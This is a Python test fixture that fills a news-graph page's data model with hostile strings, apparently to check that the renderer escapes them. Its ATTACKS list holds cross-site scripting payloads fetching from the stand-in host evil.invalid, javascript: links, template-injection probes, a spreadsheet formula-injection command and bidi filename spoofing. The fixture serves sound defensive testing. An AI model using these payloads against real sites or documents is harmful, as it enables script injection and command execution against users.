"""Page data in which every text that an article could bring tries to run or to fetch something."""

from __future__ import annotations

from dataclasses import replace

from network_fixtures import invented_page

from newsgraph.views.page.data import Dispute, Edge, Link, Mark, Node, PageArticle, PageData, Passage, Statement

FETCH = "http://evil.invalid/x"
ATTACKS = (
    f"<script>window.hit=1;fetch('{FETCH}')</script>",
    f"</script><script src={FETCH}></script>",
    "</title></style></script><h1 onclick=window.hit=1>",
    f"<img src={FETCH} onerror=window.hit=1>",
    f'"><svg onload="window.hit=1"><image href="{FETCH}"/></svg>',
    "javascript:window.hit=1",
    "{{ 7*7 }}{% raw %}${window.hit=1}`'\"\\",
    "<a href='javascript:window.hit=1'>href</a>",
    "line\u2028break\u2029and\x00nul\x1b[31m",
    "\u202etxt.exe\u202c right to left \u2066isolate",
    "]]><!--<script>window.hit=1</script>-->",
    "&lt;b&gt;&#x3c;script&#x3e;",
    "*bold* <b>bold</b> _x_ `code`",
    "lone \ud800 surrogate 🕊️ 👩‍🚒 é",
    "=cmd|'/c calc'!A1",
    "x" * 900,
)
TITLE = "</title><script>window.hit=1</script> & \"quoted\" 'single' \u202e"


def hostile_page() -> PageData:
    """Every attack as label, sublabel, name, sentence, speaker, title, publisher, address, relation, reason and id."""
    count = len(ATTACKS)
    nodes = [
        Node(
            f"urn:{i}:{attack}", ("person", "organization", "place", "event", "claim")[i % 5], attack, attack,
            type=attack, status=attack, names=(attack,), facts=((attack, attack),), statements=(f"s{i}",),
        )
        for i, attack in enumerate(ATTACKS)
    ]  # fmt: skip
    articles = [
        PageArticle(f"urn:a{i}", attack, attack, attack, attack if i % 2 else f"javascript:window.hit={i}")
        for i, attack in enumerate(ATTACKS)
    ]
    statements = [
        Statement(
            f"s{i}", f"urn:a{i}", attack, "attributed", (Mark(0, 3, attack), Mark(1, 99999, "trigger")),
            (attack, attack), stance=attack, mode=attack, polarity=attack, realis=attack, certainty=attack,
            verification=attack, date=attack, sentence=i, offset=i, why=attack,
        )
        for i, attack in enumerate(ATTACKS)
    ]  # fmt: skip
    edges = [
        Edge(f"e{i}:{attack}", nodes[i].id, nodes[(i + 1) % count].id, attack, "disputed", (f"s{i}",))
        for i, attack in enumerate(ATTACKS)
    ]
    disputes = (Dispute(ATTACKS[0], nodes[0].id, ("s0", "s1"), ("s2",), (nodes[1].id,)),)
    return replace(
        invented_page(),
        nodes=tuple(nodes),
        edges=tuple(edges),
        articles=tuple(articles),
        statements=tuple(statements),
        disputes=disputes,
        passages=tuple(
            Passage(f"urn:a{i}", attack, i, begins=True, links=(Link(0, 3, nodes[i].id), Link(1, 9999, nodes[0].id)))
            for i, attack in enumerate(ATTACKS)
        ),
        base="urn:",
    )
